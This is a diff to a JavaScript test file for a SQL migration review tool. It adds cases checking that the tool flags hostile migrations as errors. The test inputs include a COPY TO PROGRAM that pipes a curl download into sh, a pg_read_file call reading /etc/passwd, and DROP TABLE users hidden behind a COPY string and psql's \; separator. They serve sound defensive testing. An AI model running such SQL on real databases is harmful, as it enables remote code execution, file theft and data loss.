@@ -101,6 +101,30 @@ describe('hostile input to dbarch review', () => {
     );
   });
 
+  it.each([
+    [
+      'COPY … PROGRAM in a DO block',
+      "DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl -s https://example.com/x | sh'; END $$;\n",
+      'copy-program-or-server-file',
+    ],
+    [
+      'pg_read_file in a function body',
+      "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RETURN pg_read_file('/etc/passwd'); END $f$;\n",
+      'server-file-access-function',
+    ],
+    [
+      'a DROP TABLE after a COPY that names FROM STDIN in a string',
+      "COPY t TO STDOUT WITH (NULL 'FROM STDIN');\nDROP TABLE users;\n",
+      'drop-table',
+    ],
+    ["a DROP TABLE after psql's \\;", 'SELECT 1 \\; DROP TABLE users;\n', 'drop-table'],
+  ])('does not pass %s as safe', async (_name, sql, ruleId) => {
+    root = makeTempFolder({ 'V1__hidden.sql': sql });
+    const run = await review(['--format', 'json', 'V1__hidden.sql']);
+    expect(run.exitCode).toBe(1);
+    expect(JSON.parse(run.stdout).findings).toContainEqual(expect.objectContaining({ ruleId, severity: 'error' }));
+  });
+
   it('lists a named file that is no migration as skipped, with the reason, and exits 0', async () => {
     root = makeTempFolder({ 'index.js': 'console.log(1);\n' });
     const run = await review(['index.js']);
